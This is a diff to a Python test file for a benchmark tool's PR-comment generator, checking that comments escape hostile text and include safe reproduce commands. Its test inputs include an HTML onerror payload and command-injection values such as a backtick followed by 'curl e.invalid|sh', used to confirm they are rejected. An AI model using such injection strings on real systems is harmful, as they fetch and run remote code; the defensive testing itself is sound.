@@ -28,15 +28,22 @@ MENTION, LINK, HTML = "@octocat", "[x](http://e.invalid/)", "<img src=x onerror=
 HOSTILE = f"{MENTION} {LINK} ![i](https://e.invalid/i.png) {HTML} www.e.invalid &#64;u #1"
 
 
-def comparison(*, reason: str = "mkfs failed", cells: int = 2) -> Comparison:
-    """A real comparison: a regression, and a cell whose new side failed with `reason`."""
+def comparison(
+    *, reason: str = "mkfs failed", cells: int = 2, session: str | None = None, commit: str = ""
+) -> Comparison:
+    """A real comparison: a regression, and a cell whose new side failed with `reason`; the
+    sides of `session` when one is named, measured by iomatrix at `commit` when one is given."""
     pairs = [make_cell(fs=fs) for fs in ("ext4", "xfs", "btrfs", "f2fs")[:cells]]
+    ids = (f"{session}-base", f"{session}-new") if session else ("base", "new")
+    env = {"iomatrix_commit": commit} if commit else {}
     base = make_run(
-        [ok(c, {"write_iops": [1000.0, 1010.0, 990.0, 1005.0, 995.0, 1002.0]}) for c in pairs]
+        [ok(c, {"write_iops": [1000.0, 1010.0, 990.0, 1005.0, 995.0, 1002.0]}) for c in pairs],
+        run_id=ids[0],
+        **env,
     )
     new_results = [ok(pairs[0], {"write_iops": [700.0, 710.0, 690.0, 705.0, 695.0, 702.0]})]
     new_results += [failed(c, reason) for c in pairs[1:]]
-    new = make_run(new_results, run_id="new")
+    new = make_run(new_results, run_id=ids[1], **env)
     return compare_runs(base, new, metrics=["write_iops"])
 
 
@@ -75,7 +82,7 @@ def test_a_gate_runs_comparison_is_rendered_by_iomatrix_with_its_verdict(tmp_pat
         "<!-- iomatrix-ab-gate -->\n### iomatrix A/B gate: failure at 0123456789ab "
         f"([run]({RUN_URL}))\n"
     )
-    assert text.split("\n", 2)[2] == "\n" + render_markdown(result)
+    assert text.split("\n", 2)[2].startswith("\n" + render_markdown(result))
     assert "### Regressions (1)" in text
     assert "all good" not in text.replace("mkfs", "")  # the reason shows, escaped...
     assert "octocat" in text  # ...with its mention broken
@@ -207,3 +214,71 @@ def test_the_audit_passes_iomatrixs_own_markdown_and_escaped_text() -> None:
     for result in (comparison(reason=HOSTILE), comparison(cells=4)):
         assert gate_comment.audit(render_markdown(result)) is None
     assert gate_comment.audit("\\<img\\> @\u2060octocat \\#\u206012 ### Heading (3)") is None
+
+
+def reproduce_block(text: str) -> list[str]:
+    """The commands of the comment's reproduce section."""
+    assert "**Reproduce it**: download this run's ab-session artifact" in text
+    block = text.split("```sh\n", 1)[1].split("\n```", 1)[0]
+    return block.split("\n")
+
+
+def test_the_comment_carries_the_command_that_reproduces_its_session(tmp_path: Path) -> None:
+    # Issue 47: a verdict in a PR comment could not be rerun by its reader.
+    result = comparison(session="20261207-gate-ab12", commit=SHA)
+    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(result))))
+    assert reproduce_block(text) == [
+        "gh run download 42 --repo someone/repo --name ab-session --dir ab-session",
+        f"pipx install git+https://github.com/iomatrix/iomatrix@{SHA}",
+        "iomatrix reproduce 20261207-gate-ab12 --results ab-session",
+    ]
+    assert_inert(text)
+
+
+def test_the_reproduce_line_survives_a_comparison_too_large_to_show(tmp_path: Path) -> None:
+    result = comparison(session="s1", commit=SHA)
+    many = result.model_copy(update={"rows": tuple(result.rows[0] for _ in range(3000))})
+    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(many))))
+    assert "it is too large for a comment" in text
+    assert reproduce_block(text)[-1] == "iomatrix reproduce s1 --results ab-session"
+
+
+@pytest.mark.parametrize(
+    "commit", ["[x](http://e.invalid/)", "0123`; curl e.invalid|sh", SHA.upper(), SHA[:39]]
+)
+def test_a_commit_that_is_not_one_is_not_pasted(tmp_path: Path, commit: str) -> None:
+    # The commit is the fork run's text: only 40 lowercase hex digits become an install line.
+    result = comparison(session="s1", commit=commit)
+    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(result))))
+    assert reproduce_block(text)[1:] == ["iomatrix reproduce s1 --results ab-session"]
+    assert commit not in text
+    assert_inert(text)
+
+
+def test_two_runs_of_their_own_reproduce_the_new_one(tmp_path: Path) -> None:
+    result = comparison(commit=SHA)
+    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(result))))
+    assert reproduce_block(text)[-1] == "iomatrix reproduce new --results ab-session"
+
+
+@pytest.mark.parametrize(
+    ("run_url", "line"),
+    [
+        (
+            "https://ghe.example.com/org/storage/actions/runs/9/attempts/2",
+            "gh run download 9 --repo ghe.example.com/org/storage --name ab-session "
+            "--dir ab-session",
+        ),
+        ("https://github.com/o/r/actions/runs/9`; sh", None),
+        (None, None),
+    ],
+)
+def test_the_artifact_is_fetched_from_githubs_own_run_address_only(
+    run_url: str | None, line: str | None
+) -> None:
+    section = gate_comment.reproduce_section(comparison(session="s1", commit=SHA), run_url)
+    first = reproduce_block(section)[0]
+    if line is None:
+        assert first.startswith("pipx install ")
+    else:
+        assert first == line
